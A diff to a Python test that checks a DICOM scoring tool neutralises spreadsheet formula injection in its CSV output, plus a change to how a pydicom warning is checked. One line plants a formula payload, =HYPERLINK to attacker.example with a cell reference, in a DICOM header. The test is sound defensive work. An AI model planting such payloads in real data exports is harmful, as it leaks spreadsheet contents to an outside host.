@@ -47,8 +47,8 @@ def test_csv_cells_from_headers_never_start_a_spreadsheet_formula(capsys, packag
     ds = pydicom.dcmread(CT)
     ds.SOPInstanceUID = '=HYPERLINK("http://attacker.example/?"&A1,"open")'  # what a crafted header can carry
     ds.save_as(tmp_path / "crafted.dcm")
-    with pytest.warns(UserWarning):  # pydicom flags the invalid UID; the file still scores
-        code, out, _ = score(capsys, package_dir, tmp_path / "crafted.dcm", "=missing.dcm", "--csv")
+    code, out, err = score(capsys, package_dir, tmp_path / "crafted.dcm", "=missing.dcm", "--csv")
+    assert f"warning: {tmp_path / 'crafted.dcm'}: Invalid value for VR UI" in err  # pydicom flags it; the file still scores
     scored, rejected = csv.DictReader(io.StringIO(out))
     assert scored["sop_uid"] == "'" + ds.SOPInstanceUID and scored["probability"][0].isdigit()
     assert rejected["file"] == "'=missing.dcm" and code == 1
